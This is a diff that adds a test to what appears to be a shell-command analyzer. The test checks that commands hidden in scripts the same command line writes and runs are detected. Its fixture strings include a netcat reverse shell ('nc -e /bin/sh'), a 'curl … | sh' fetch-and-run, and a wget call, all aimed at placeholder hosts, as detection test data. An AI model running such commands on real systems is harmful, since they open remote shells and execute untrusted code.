@@ -115,6 +115,26 @@ def test_unset_ifs_splits_words_and_unset_positionals_are_empty() -> None:
     assert ("printf", "%s", ",") in [c.argv for c in quoted.commands]  # set: its value, not split
 
 
+def test_a_script_the_command_line_writes_and_runs_is_read() -> None:
+    """What a dropped script does is known when the same command line wrote it: by the interpreter
+    named, by its #! line when run directly, as shell without one, and as code whose process calls
+    are read for a runner of a language with no table (``go run``, ``runhaskell``)."""
+
+    def seen(text: str) -> list[tuple[str, ...]]:
+        return [c.argv for c in analyze(text).commands]
+
+    dropped = """echo 'import os; os.system("nc -e /bin/sh h 1")' > r.py; python3 ./r.py"""
+    assert ("nc", "-e", "/bin/sh", "h", "1") in seen(dropped)
+    assert ("curl", "-s", "http://x/a") in seen("printf 'curl -s http://x/a | sh' > /tmp/s; bash /tmp/s arg")
+    shebang = "cat > /tmp/d <<'EOF'\n#!/usr/bin/env python3\nimport os\nos.system('id -u')\nEOF\n/tmp/d"
+    assert ("id", "-u") in seen(shebang)
+    hs = 'cat > m.hs <<EOF\nmain = callCommand "wget -q http://x/b"\nEOF\nrunhaskell m.hs'
+    assert ("wget", "-q", "http://x/b") in seen(hs)
+    assert seen("python3 other.py") == [("python3", "other.py")]  # not written here: unknown
+    appended = seen("echo 'id' > s.sh; echo 'uname -a' >> s.sh; sh s.sh")
+    assert ("id",) in appended and ("uname", "-a") in appended
+
+
 def test_find_exec_acts_on_the_files_found() -> None:
     """``{}`` stands for files below the first starting point, named as -name says, whether a
     program gets them or a shell script sees them as $1."""
